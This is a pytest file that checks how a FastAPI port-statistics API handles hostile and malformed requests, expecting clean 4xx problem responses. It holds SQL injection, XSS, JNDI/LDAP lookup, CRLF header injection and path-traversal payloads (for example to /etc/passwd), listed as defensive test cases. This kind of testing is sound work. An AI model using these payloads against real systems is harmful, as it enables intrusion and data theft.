"""Hostile and malformed input. Each answer is a 4xx problem document that says what was wrong,
and lists the valid values where that helps; never a 500, a traceback, or the input echoed back.

Every case runs twice: in process, and against a real uvicorn over a socket. The socket sends
each URL exactly as written, so `..` reaches the server (httpx, under the TestClient, would
resolve it first) and the server's own decoding of %00 and %ff is what the app sees.
"""

import http.client
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Annotated, Literal

import pytest
from fastapi import Depends, FastAPI, Query
from fastapi.testclient import TestClient

from app.api.problems import add_problem_handlers
from tests.helpers import PROBLEM, metric_ids, observation_ids, port_ids, valid_values
from tests.server import uvicorn_server

# An answer as (status, headers with lower-case names, body), however it was fetched.
Answer = tuple[int, dict[str, str], bytes]
Get = Callable[[str, dict[str, str]], Answer]


# What a 404 or a 422 lists as valid: the seeds' ids, while there are few enough to list.
PORTS, METRICS, OBSERVATIONS = valid_values(port_ids()), valid_values(metric_ids()), valid_values(observation_ids())
PORT, METRIC = port_ids()[0], metric_ids()[0]
LONG = "a" * 5000
HUGE = str(10**30)

# What no answer may contain: the hostile parts of the inputs below, raw or encoded, and traces.
NEVER_ECHOED = [
    b"<script", b"%3Cscript", b"jndi", b"OR 1=1", b"OR%201", b"passwd", b"main.py", b"\x00", b"\\u0000",
    b"aaaaaaaaaa", HUGE.encode(), b"Traceback", b'File "',
]  # fmt: skip

# (URL as sent, status, words the detail must contain, valid_values or None, headers)
CASES = [
    # Injection: nothing is ever interpreted, so these are just names that name nothing.
    ("/v1/ports/'%20OR%201=1%20--", 404, "No such port", PORTS, {}),
    ("/v1/observations?port='%20OR%201=1%20--", 422, "Unknown port", PORTS, {}),
    ("/v1/metrics/%3Cscript%3Ealert(1)", 404, "No such metric", METRICS, {}),
    ("/v1/observations?metric=%3Cscript%3Ealert(1)%3C/script%3E", 422, "Unknown metric", METRICS, {}),
    ("/v1/ports/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404, "No such resource", None, {}),
    ("/v1/observations?port=$%7Bjndi:ldap://example.org/a%7D", 422, "Unknown port", PORTS, {}),
    ("/v1/sources/$%7Bjndi:ldap:%2F%2Fexample.org%2Fa%7D", 404, "No such resource", None, {}),
    ("/v1/observations?format=%3Cscript%3E", 422, "'format'", ["json", "csv"], {}),
    # NUL and bytes that are not UTF-8, in paths and in query values.
    ("/v1/ports/ala%00taw", 422, "'port': must not contain control characters", None, {}),
    ("/v1/observations?port=ala%00taw", 422, "'port': must not contain control characters", None, {}),
    (f"/v1/observations?metric={METRIC}%00", 422, "'metric': must not contain control", None, {}),
    ("/v1/observations/%00", 422, "'observation': must not contain control", None, {}),
    ("/v1/sources/%0d%0aSet-Cookie:%20x", 422, "'source': must not contain control", None, {}),
    ("/v1/ports/%ff%fe", 422, "'port': must not contain control characters or bytes that are not UTF-8", None, {}),
    ("/v1/ports/ala%ff%fetaw", 422, "not UTF-8", None, {}),
    ("/v1/observations?port=%ff%fe", 422, "not UTF-8", None, {}),
    ("/v1/observations?limit=%00", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?period_from=%ff", 422, "'period_from': must be a date as YYYY-MM-DD", None, {}),
    ("/static/a%00b.js", 404, "No such resource", None, {}),
    # Ids far longer than any id.
    (f"/v1/ports/{LONG}", 422, "'port': String should have at most 100 characters", None, {}),
    (f"/v1/metrics/{LONG}", 422, "'metric': String should have at most 100 characters", None, {}),
    (f"/v1/observations/{LONG}", 422, "'observation': String should have at most 200", None, {}),
    (f"/v1/sources/{LONG}", 422, "'source': String should have at most 200 characters", None, {}),
    (f"/v1/ports/{PORT}/metrics/{LONG}", 422, "'metric': String should have at most 100", None, {}),
    (f"/v1/observations?port={LONG}", 422, "'port': String should have at most 100", None, {}),
    (f"/{LONG}", 404, "No such resource", None, {}),
    # Path traversal, plain and encoded; the static files are the only files served.
    ("/v1/sources/..%2f..%2fetc%2fpasswd", 404, "No such resource", None, {}),
    ("/static/../app/main.py", 404, "No such resource", None, {}),
    ("/static/%2e%2e/app/main.py", 404, "No such resource", None, {}),
    ("/static/%2e%2e%2fapp%2fmain.py", 404, "No such resource", None, {}),
    ("/static/swagger-ui/../../main.py", 404, "No such resource", None, {}),
    ("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404, "No such resource", None, {}),
    ("/../../etc/passwd", 404, "No such resource", None, {}),
    ("/static/nope.js", 404, "No such resource", None, {}),
    ("/static/", 404, "No such resource", None, {}),
    # Numbers: out of range, huge, or not numbers at all.
    ("/v1/observations?limit=-1", 422, "'limit': Input should be greater than or equal to 1", None, {}),
    ("/v1/observations?limit=0", 422, "'limit': Input should be greater than or equal to 1", None, {}),
    (f"/v1/observations?limit={HUGE}", 422, "'limit': Input should be less than or equal to 1000", None, {}),
    ("/v1/observations?offset=-1", 422, "'offset': Input should be greater than or equal to 0", None, {}),
    (f"/v1/ports?offset={HUGE}", 422, "'offset': must be at most 10,000", None, {}),
    ("/v1/observations?offset=10001", 422, "follow `links.next`", None, {}),
    ("/v1/sources?limit=ten", 422, "'limit': must be a whole number", None, {}),
    ("/v1/metrics?limit=1.5", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?limit=1e3", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?limit=NaN", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?limit=5_0", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?limit=%2B5", 422, "'limit': must be a whole number", None, {}),
    ("/v1/observations?offset=%201", 422, "'offset': must be a whole number", None, {}),
    ("/v1/observations?limit=", 422, "'limit': must be a whole number", None, {}),
    # Dates that do not exist, are not dates, or make an empty period.
    ("/v1/observations?period_from=2023-02-30", 422, "'period_from': Input should be a valid date", None, {}),
    ("/v1/observations?period_to=2023-13-01", 422, "'period_to': Input should be a valid date", None, {}),
    ("/v1/observations?period_to=yesterday", 422, "'period_to': must be a date as YYYY-MM-DD", None, {}),
    ("/v1/observations?period_from=0", 422, "'period_from': must be a date as YYYY-MM-DD", None, {}),
    ("/v1/observations?period_from=1672531200", 422, "'period_from': must be a date as YYYY-MM-DD", None, {}),
    ("/v1/observations?period_from=2023-01-01T00:00", 422, "'period_from': must be a date", None, {}),
    ("/v1/observations?period_from=2023-02-01&period_to=2023-01-01", 422, "period_to is before period_from", None, {}),
    # Values that name nothing.
    ("/v1/observations?port=atlantis", 422, "Unknown port", PORTS, {}),
    ("/v1/observations?metric=passengers", 422, "Unknown metric", METRICS, {}),
    ("/v1/observations?format=xml", 422, "'format': Input should be 'json' or 'csv'", ["json", "csv"], {}),
    ("/v1/observations?format=CSV", 422, "'format'", ["json", "csv"], {}),
    ("/v1/ports/atlantis", 404, "No such port", PORTS, {}),
    (f"/v1/observations/{PORT}-{METRIC}-1999-01", 404, "No such observation", OBSERVATIONS, {}),
    # Headers too large to be honest: one 100 KB value, or very many. See docs/operations.md, "Reliability".
    ("/v1/ports", 431, "headers add up to more than 16384 bytes", None, {"X-Big": "a" * 100_000}),
    ("/v1/ports", 431, "headers add up to more than 16384 bytes", None, {f"X-H{i}": "x" * 20 for i in range(1000)}),
]


@pytest.fixture(scope="module")
def server(database: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    with uvicorn_server(database, tmp_path_factory.mktemp("server") / "uvicorn.log") as port:
        yield port


def over_socket(port: int, url: str, headers: dict[str, str]) -> Answer:
    """GET `url` exactly as written: http.client neither resolves `..` nor re-encodes."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.putrequest("GET", url, skip_accept_encoding=True)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        connection.close()


@pytest.fixture(params=["in process", "uvicorn"])
def get(request: pytest.FixtureRequest) -> Get:
    if request.param == "in process":
        client: TestClient = request.getfixturevalue("client")

        def in_process(url: str, headers: dict[str, str]) -> Answer:
            response = client.get(url, headers=headers)
            return response.status_code, dict(response.headers), response.content

        return in_process
    port: int = request.getfixturevalue("server")
    return lambda url, headers: over_socket(port, url, headers)


def assert_nothing_echoed(headers: dict[str, str], body: bytes) -> None:
    answer = body + "".join(f"{k}: {v}\n" for k, v in headers.items()).encode("latin-1")
    for text in NEVER_ECHOED:
        assert text not in answer, text


@pytest.mark.parametrize(
    "url, status, says, valid, headers",
    CASES,
    ids=[c[0][:60] + (f" with {len(str(c[4]))} bytes of headers" if c[4] else "") for c in CASES],
)
def test_bad_input_gets_a_problem_that_says_what_was_wrong(
    get: Get, url: str, status: int, says: str, valid: list[str] | None, headers: dict[str, str]
) -> None:
    answer_status, answer_headers, body = get(url, headers)
    assert (answer_status, answer_headers["content-type"]) == (status, PROBLEM), body[:300]
    problem = json.loads(body)
    assert problem["status"] == status
    assert problem["title"]
    assert says in problem["detail"]
    assert problem.get("valid_values") == valid
    assert_nothing_echoed(answer_headers, body)


# Headers that are not the API's business: ignored, and never echoed.
HOSTILE_HEADERS = [
    {"Accept": "<script>alert(1)</script>"},
    {"If-None-Match": "<script>alert(1)</script>"},
    {"Origin": "<script>alert(1)</script>"},
    {"User-Agent": "${jndi:ldap://example.org/a}"},
    {"X-Forwarded-For": "' OR 1=1 --"},
    {"Range": "bytes=-<script>"},
]


@pytest.mark.parametrize("headers", HOSTILE_HEADERS, ids=lambda h: next(iter(h)))
def test_hostile_headers_are_ignored_and_not_echoed(get: Get, headers: dict[str, str]) -> None:
    status, answer_headers, body = get("/v1/observations", headers)
    assert (status, answer_headers["content-type"]) == (200, "application/json")
    assert_nothing_echoed(answer_headers, body)


def test_a_closed_set_declared_in_a_dependency_lists_its_values() -> None:
    """valid_values comes from the parameter's declaration wherever it is: in the route, as
    `format`, or in a dependency, as a filter added to observation_filter would be."""

    def choice(size: Annotated[Literal["small", "large"], Query()] = "small") -> str:
        return size

    app = FastAPI()
    add_problem_handlers(app)

    @app.get("/sized")
    def sized(size: Annotated[str, Depends(choice)]) -> str:
        return size

    response = TestClient(app).get("/sized?size=huge")
    assert response.status_code == 422
    assert response.json()["valid_values"] == ["small", "large"]
